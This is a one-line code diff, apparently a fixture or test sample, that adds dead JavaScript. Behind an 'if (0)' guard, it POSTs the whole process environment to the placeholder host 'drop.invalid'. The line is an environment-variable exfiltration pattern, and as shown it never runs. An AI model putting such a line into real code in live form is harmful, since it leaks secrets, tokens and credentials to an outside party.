@@ -1,0 +1,1 @@
+if (0) fetch("https://drop.invalid/", { method: "POST", body: JSON.stringify(process.env) })
